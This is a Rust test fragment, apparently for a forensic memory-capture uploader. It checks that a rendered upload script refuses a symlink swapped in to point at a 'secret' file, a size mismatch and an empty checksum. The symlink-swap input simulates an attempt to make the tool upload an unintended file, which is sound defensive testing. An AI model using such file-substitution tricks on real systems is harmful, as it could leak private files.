    let document = memory::document(&"ab".repeat(32), "http://127.0.0.1:9/bucket").unwrap();
    let dir = format!(
        "/var/tmp/firebreak.t{:09}",
        std::process::id() % 1_000_000_000
    );
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let image = format!("{dir}/memory.lime");
    let secret = format!("{dir}/secret");
    std::fs::write(&secret, "s").unwrap();
    let run = |checksum: &str| {
        let given: HashMap<String, Vec<String>> = [
            ("Step", "upload"),
            ("Seconds", "30"),
            ("Image", image.as_str()),
            (
                "UploadKey",
                "FB-0123456789abcdef/memory/0123456789abcdef.lime",
            ),
            ("UploadQuery", "X-Amz-Signature=1"),
            ("Size", "1"),
            ("Checksum", checksum),
            ("Tagging", "a=b"),
            ("LockMode", "COMPLIANCE"),
            ("RetainUntil", "2027-01-01T00:00:00Z"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), vec![v.to_string()]))
        .collect();
        let script = render(&document, &given).expect("the parameters fit the patterns");
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(script)
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        )
    };
    let checksum = format!("{}=", "A".repeat(43));

    std::os::unix::fs::symlink(&secret, &image).unwrap();
    let (code, err) = run(&checksum);
    assert_eq!(code, Some(5), "{err}");
    assert!(err.contains("not the one the capture wrote"), "{err}");

    std::fs::remove_file(&image).unwrap();
    std::fs::write(&image, "two").unwrap();
    let (code, err) = run(&checksum);
    assert_eq!(code, Some(5), "another size: {err}");

    std::fs::write(&image, "1").unwrap();
    let (code, err) = run("");
    assert_eq!(code, Some(2), "an empty checksum: {err}");
    assert!(std::path::Path::new(&image).exists(), "nothing was removed");
    std::fs::remove_dir_all(&dir).unwrap();
}
